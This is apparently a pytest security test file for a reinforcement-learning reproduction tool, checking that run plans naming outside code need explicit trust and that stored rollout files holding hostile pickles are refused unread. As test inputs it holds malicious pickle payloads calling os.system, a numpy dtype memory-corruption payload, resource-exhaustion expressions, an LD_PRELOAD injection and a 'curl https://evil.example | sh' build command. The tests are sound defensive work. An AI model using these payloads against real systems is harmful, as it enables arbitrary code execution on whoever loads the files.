"""Python code that a recorded run names is listed and needs trust; stored rollouts are pure data or are refused."""

from __future__ import annotations

import dataclasses
import json
import lzma
import os
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

from rlk_repro.base import proc
from rlk_repro.base.errors import BundleUnreadable, CheckFailed, EnvironmentMissing
from rlk_repro.base.files import sha256_bytes, write_json
from rlk_repro.bundle.seal import pack, seal
from rlk_repro.cli.sources import require_sources
from rlk_repro.plan import Plan, make_record
from rlk_repro.prepare.making import Order, fill
from rlk_repro.prepare.stored_rollouts import Storage
from rlk_repro.refengine import random_rollouts
from rlk_repro.rundir.paths import RunDir, runs_root
from rlk_repro.rundir.rollout_files import check_file
from rlk_repro.spec import HubSource, Image, StoredRollouts, VimeWorkload
from rlk_repro.spec.stack import Unpublished
from rlk_repro.submit.consent import (
    find_build_hint,
    find_foreign,
    find_shipped_pins,
    list_what_runs,
    require_trust,
)
from tests import ROOT
from tests.security.strangers import write_program
from tests.support.slurm.examples import plan_for
from tests.support.vime_examples import list_plans

EVIDENCE = ROOT / "docs" / "evidence"


def with_workload(plan: Plan, **parts: Any) -> Plan:
    """Return a plan of vime with other settings, by the name of the part: ``arguments``, ``data`` and so on."""
    workload = plan.run.workload
    assert isinstance(workload, VimeWorkload)
    changed = {
        name: value if name == "arguments" else getattr(workload, name).model_copy(update=value)
        for name, value in parts.items()
    }
    run = plan.run.model_copy(update={"workload": workload.model_copy(update=changed)})
    return dataclasses.replace(plan, run=run)


def test_no_shipped_run_names_foreign_code() -> None:
    assert {name: found for name, plan in list_plans() if (found := find_foreign(plan))} == {}


FLAGS: dict[str, Any] = {
    "custom-generate-function-path": "evil.module.generate",
    "custom-convert-samples-to-train-data-path": "os.system",
    "data-source-path": "evil.Source",
    "spec": ("evil.module", "get_spec"),
    "rollout-data-postprocess-path": "vime.x.y ; evil",
    "vllm-worker-cls": "evil.Worker",
    "vllm-tool-parser-plugin": "/tmp/evil.py",
    "vllm-middleware": "vime.looks.known",
    "vllm-log-config-file": "vime.json",
    "vllm-load-format": "evil",
    "vllm-hf-overrides": '{"a": 1}',
    "vllm-chat-template": "{{ evil }}",
    "train-env-vars": '{"LD_PRELOAD": "/tmp/evil.so"}',
    "rm-url": "http://evil.example/reward",
    "tokenizer-model": "/tmp/evil",
    "trust-remote-code": True,
    # digits are a file's name, an address or a module, too
    **dict.fromkeys(("vllm-router-ip", "worker-urls", "http-proxy", "vllm-data-parallel-address"), "203.0.113.66"),
    **dict.fromkeys(("pretrained-checkpoint", "megatron-config-path", "vllm-config", "router-wasm-middleware"), "1"),
    "vllm-max-model-len": "1-2",
    "vllm-quantization": "a.b",
    "vllm-attention-backend": "/tmp/1",
    # Megatron-LM evaluates these
    "moe-layer-freq": "[0]*9999999999",
    "linear-attention-freq": "9**9**9",
    "no-rope-freq": "[0]*9999999999*0+[1]*28",
    "window-attn-skip-freq": "[0]*(9999999999)+[1]",
}


@pytest.mark.parametrize("flag", sorted(FLAGS))
def test_flags_that_name_foreign_code_need_trust(flag: str) -> None:
    plan = with_workload(plan_for("vime-smoke", "h200"), arguments={flag: FLAGS[flag]})
    with pytest.raises(CheckFailed, match=rf"--{flag}: may run code from outside this package and the pinned"):
        require_trust(plan)


@pytest.mark.parametrize("value", [("fp8", "--custom-rm-path=evil.f"), ("fp8", "--spec", "evil.x", "f")])
def test_a_flag_in_the_place_of_a_value_is_found(value: tuple[str, ...]) -> None:
    plan = with_workload(plan_for("vime-smoke", "h200"), arguments={"vllm-quantization": value})
    assert "evil" in " ".join(item.value for item in find_foreign(plan))


def test_foreign_rewards_and_models_need_trust() -> None:
    plan = with_workload(plan_for("vime-smoke", "h200"), data={"custom_rm_path": "evil.reward", "rm_type": None})
    assert [str(item) for item in find_foreign(plan)] == ["--custom-rm-path evil.reward"]
    source = HubSource(kind="hub", repository="evil/Qwen3-4B", revision="a" * 40)
    plan = with_workload(plan_for("qwen3-4b", "h200"), model={"source": source})
    assert [item.where for item in find_foreign(plan)] == ["model"]


def test_foreign_images_need_trust() -> None:
    plan = plan_for("smoke", "h200")
    image = Image(reference="evil.example/image", digest=f"sha256:{'e' * 64}")
    theirs = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"images": {"cuda-amd64": image}}))
    assert [str(item) for item in find_foreign(theirs)] == [f"image evil.example/image@sha256:{'e' * 64}"]
    assert list_what_runs(theirs, theirs.profile)["FOREIGN 1 of 1"].endswith(" (needs --trust)")
    shipped = plan_for("smoke", "h200", stack="example")
    assert shipped.stack.images
    assert find_foreign(shipped) == []


PINS: dict[str, dict[str, str]] = {
    "repository": {"repository": "https://github.com/evil/Megatron-LM"},
    "commit": {"commit": "e" * 40},
    "tree": {"tree": "e" * 40},
    "patched tree": {"patched_tree": "e" * 40},
}


@pytest.mark.parametrize("what", PINS)
def test_pinned_means_pinned_by_a_shipped_stack(what: str) -> None:
    plan = plan_for("vime-smoke", "h200")
    assert find_shipped_pins(plan.stack) == plan.stack.pins
    theirs = {**plan.stack.pins, "megatron_lm": plan.stack.pins["megatron_lm"].model_copy(update=PINS[what])}
    plan = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"pins": theirs}))
    assert [item.where for item in find_foreign(plan)] == ["pin megatron_lm"]
    assert list_what_runs(plan, plan.profile)["FOREIGN 1 of 1"].startswith("pin megatron_lm ")
    assert "FOREIGN 1 of 1" not in list_what_runs(plan, plan.profile, is_own=True)
    local = dataclasses.replace(plan, profile=plan.profile.model_copy(update={"cluster": "local"}))
    with pytest.raises(EnvironmentMissing) as caught:
        require_sources(local)
    hints = {problem.where: problem.hint for problem in caught.value.problems}
    assert "git clone" in str(hints["python module vime"])
    assert "git clone" not in str(hints["python module megatron"])


def test_a_command_of_a_strangers_stack_is_no_hint() -> None:
    plan = plan_for("smoke", "h200")
    evil = Unpublished(build="curl https://evil.example | sh", reason="theirs")
    stack = plan.stack.model_copy(update={"images": {}, "unpublished": {"cuda-amd64": evil}})
    assert find_build_hint(dataclasses.replace(plan, stack=stack)) is None


@pytest.mark.parametrize(
    "arguments",
    [{"vllm-quantization": "fp8"}, {"moe-layer-freq": "[0]*1+[1]*7"}, {"vllm-max-model-len": "8k"},
     {"attention-backend": "flash"}, {"vllm-enforce-eager": True}, {"spec": ("vime_plugins.models.glm4", "get_spec")},
     {"dynamic-sampling-filter-path": "vime.rollout.filter_hub.dynamic_sampling_filters.check"}],
)  # fmt: skip
def test_numbers_choices_and_pinned_code_need_no_trust(arguments: dict[str, Any]) -> None:
    assert find_foreign(with_workload(plan_for("vime-smoke", "h200"), arguments=arguments)) == []


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """Return sealed evidence with a reward function of the stranger's, with all hashes made to fit."""
    from rlk_repro.analysis.analyse import analyse

    folder = tmp_path / "theirs"
    folder.mkdir()
    with tarfile.open(EVIDENCE / "qwen3-4b-random-live-h200.tgz") as archive:
        archive.extractall(folder, filter="data")
    run_dir = RunDir(folder)
    plan = with_workload(Plan.load(run_dir.plan), data={"custom_rm_path": "evil.reward", "rm_type": None})
    write_json(run_dir.plan, make_record(plan, run_dir.run_id))
    author = run_dir.run_yaml.read_text()
    run_dir.run_yaml.write_text(author.replace("rlk_repro.integration.reward.share_of_even_ids", "evil.reward"))
    write_json(run_dir.analysis, analyse(run_dir).to_json())
    run_dir.checksums.unlink()
    seal(run_dir)
    return pack(run_dir)


def test_yes_alone_does_not_trust_foreign_code(
    call, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("VIME_SRC", "MEGATRON_SRC", "RLK_SRC", "PYTHONPATH"):
        monkeypatch.delenv(name, raising=False)
    sources = []
    for option, module in (("--vime-src", "vime"), ("--megatron-src", "megatron"), ("--rl-kernel-src", "rl_engine")):
        (tmp_path / option / module).mkdir(parents=True)
        sources += [option, str(tmp_path / option)]
    shown = json.loads(call("replay", str(bundle), *sources, "--dry-run", "--json")[1])["what_runs"]
    assert shown["FOREIGN 1 of 1"] == "--custom-rm-path evil.reward (needs --trust)"
    code, out, err = call("replay", str(bundle), *sources, "--yes")
    assert (code, list(runs_root().glob("*/*/plan.json"))) == (6, [])
    assert "  FOREIGN 1 of 1 --custom-rm-path evil.reward (needs --trust)\n" in out
    assert "hint: review this code; --trust allows it" in err


class Call:
    """A pickle that calls a function of the stranger's choice when it is loaded."""

    def __init__(self, *words: str) -> None:
        self.words = words

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return os.system, self.words


def write_rollout(path: Path, value: Any) -> Path:
    torch.save({"rollout_id": 0, "samples": [value]}, path)
    return path


def hostile_rollouts(folder: Path, mark: Path) -> Iterator[Path]:
    """Write files that run something in torch.load, or that torch reads as more than data."""
    evil = Call(f'touch "{mark}"')
    yield write_rollout(folder / "call.pt", {"tokens": [1], "metadata": evil})
    with (folder / "bare.pt").open("wb") as stream:
        pickle.dump(evil, stream)
    yield folder / "bare.pt"
    torch.save(evil, folder / "legacy.pt", _use_new_zipfile_serialization=False)
    yield folder / "legacy.pt"
    good = write_rollout(folder / "good", {"tokens": [1]})
    with zipfile.ZipFile(good) as archive:
        members = {item.filename: archive.read(item) for item in archive.infolist()}
    with zipfile.ZipFile(folder / "program.pt", "w") as archive:  # torch takes it for a compiled program
        for member, content in {
            **members,
            f"{good.name}/constants.pkl": b"\x80\x02).",
        }.items():
            archive.writestr(member, content)
    yield folder / "program.pt"
    opcodes = {
        "global": b"cos\nsystem\n(Vtrue\ntR.",
        "instance": b"(Vtrue\nios\nsystem\n.",
        "stack": b"\x80\x04\x8c\x05posix\x8c\x06system\x93(Vtrue\ntR.",
        "build": b"ccollections\nOrderedDict\n(tR}V__reduce__\ncos\nsystem\nsb.",
        "named": b"cnumpy\nndarray\n(Vx\ntR.",
        "dotted": b"\x80\x04\x8c\x0bcollections\x8c\x14OrderedDict.fromkeys\x93(tR.",
        "cut": b"\x80\x02}q",
        "extension": b"\x80\x02\x82\x01.",
        "bomb": b"c__builtin__\nbytearray\n(J\xff\xff\xff\x7ftR.",
        "state": b"ctorch._utils\n_rebuild_tensor_v2\n(tR}b.",
        "item": b"ccollections\nOrderedDict\n(tRVx\nVy\ns.",
        # with this state numpy takes an array's bytes for pointers to objects
        "dtype": b"cnumpy\ndtype\n(VO8\ntR(K\x03V|\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb.",
    }
    for name, data in opcodes.items():
        with zipfile.ZipFile(folder / f"{name}.pt", "w") as archive:
            for member, content in members.items():
                archive.writestr(member, data if member.endswith("data.pkl") else content)
        yield folder / f"{name}.pt"
    evil_first = [(f"{good.name}/data.pkl", pickle.dumps(evil)), *members.items()]
    evil_last = [*members.items(), ("other/data.pkl", pickle.dumps(evil))]
    in_capitals = [(f"{good.name}/DATA.PKL", pickle.dumps(evil)), *members.items()]
    for number, items in enumerate((evil_first, evil_last, in_capitals)):
        with zipfile.ZipFile(folder / f"twice{number}.pt", "w") as archive:
            for member, content in items:
                archive.writestr(member, content)
        yield folder / f"twice{number}.pt"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_rollout_that_is_more_than_data_is_refused_unread(tmp_path: Path) -> None:
    _, mark = write_program(tmp_path)
    for path in hostile_rollouts(tmp_path, mark):
        with pytest.raises(BundleUnreadable, match=rf"stored rollout {path.name}: "):
            check_file(path)
    assert not mark.exists()
    with pytest.raises(
        BundleUnreadable, match=r"stored rollout call.pt: cannot be read as plain data \(it names posix.system\)"
    ):
        check_file(tmp_path / "call.pt")


START_EACH = """
import json, os, runpy, sys
import torch
for argv in json.loads(sys.argv[1]):
    sys.stdout.flush()
    child = os.fork()
    if not child:
        sys.argv[1:] = argv
        runpy.run_module("rlk_repro.integration.start_vime", run_name="__main__", alter_sys=True)
        sys.exit(0)
    print("exit", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
"""
"""Each start in a process of its own, of which torch is loaded once."""


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_vime_is_not_started_on_a_hostile_rollout(tmp_path: Path) -> None:
    """Torch's own archive reader checks the file, in the process that would become vime's."""
    _, mark = write_program(tmp_path)
    checkout = tmp_path / "vime checkout"
    (checkout / "vime").mkdir(parents=True)
    (checkout / "vime" / "__init__.py").touch()
    (checkout / "train.py").write_text("print('trains')\n")
    paths = [tmp_path / name for name in ("call.pt", "legacy.pt", "program.pt", "dtype.pt")]
    assert set(paths) < set(hostile_rollouts(tmp_path, mark))
    env = os.environ | {"PYTHONPATH": os.pathsep.join([str(checkout), str(ROOT)])}
    starts, expected = [], []
    for number, path in enumerate((*paths, tmp_path / "good")):
        folder = tmp_path / str(number)
        folder.mkdir()
        path.rename(folder / "0.pt")
        for flag in ("--load-debug-rollout-data", "--load-forge-rollout-data"):
            argv = ["--num-rollout", "1", flag, str(folder / "{rollout_id}.pt"), "--use-rollout-routing-replay"]
            if path.name == "good":
                argv.pop()
            starts.append(argv)
            expected += ["trains", "exit 0"] if path.name == "good" else ["exit 5"]
    done = proc.run([sys.executable, "-c", START_EACH, json.dumps(starts)], env=env, timeout_s=120)
    assert done.stdout.splitlines() == expected, done.stderr
    assert not mark.exists()


def test_prepare_refuses_a_hostile_rollout(tmp_path: Path) -> None:
    _, mark = write_program(tmp_path)
    folder = tmp_path / "mirror" / "rollouts" / "theirs"
    folder.mkdir(parents=True)
    data = write_rollout(folder / "0.pt", {"metadata": Call(f'touch "{mark}"')}).read_bytes()
    digest = "sha256:" + sha256_bytes(f"{sha256_bytes(data)}  0.pt\n".encode())
    stored = StoredRollouts(name="theirs", num_files=1, digest=digest, made_by="a stranger")
    storage = Storage(stored=stored, mirror=tmp_path / "mirror", is_offline=True)
    target = tmp_path / "prepared" / "rollouts" / "theirs"
    with pytest.raises((BundleUnreadable, EnvironmentMissing), match=r"it names posix\.system"):
        fill(Order(kind="rollouts", folder=target, is_wanted=lambda _: True, make=storage.run), lambda _: None)
    assert not mark.exists()
    assert not target.exists()


@pytest.mark.parametrize("name", ["vime-r3", "vime-tp2"])
def test_a_rollout_that_vime_stored_on_a_gpu_is_data(tmp_path: Path, name: str) -> None:
    path = tmp_path / "0.pt"
    path.write_bytes(lzma.decompress((ROOT / "tests" / "assets" / "rollouts" / f"{name}.pt.xz").read_bytes()))
    check_file(path)


def test_tensors_and_plain_values_are_data(tmp_path: Path) -> None:
    kinds = (torch.bfloat16, torch.int32, torch.bool)
    tensors = {str(kind): torch.zeros(2, dtype=kind) for kind in kinds}
    value = {"tokens": [1, 2], "text": "ünï", "pair": (1.5, None), "deep": {"done": True}, **tensors}
    check_file(write_rollout(tmp_path / "0.pt", value))
    random_rollouts.main(
        ["--seed=1", "--num-samples=2", "--prompt-len=2", "--vocab-size=9", "--num-layers=2", "--num-experts=4",
         "--num-experts-per-token=2", "--response-lens", "3", "--", str(tmp_path)]
    )  # fmt: skip
    check_file(tmp_path / "0.pt")
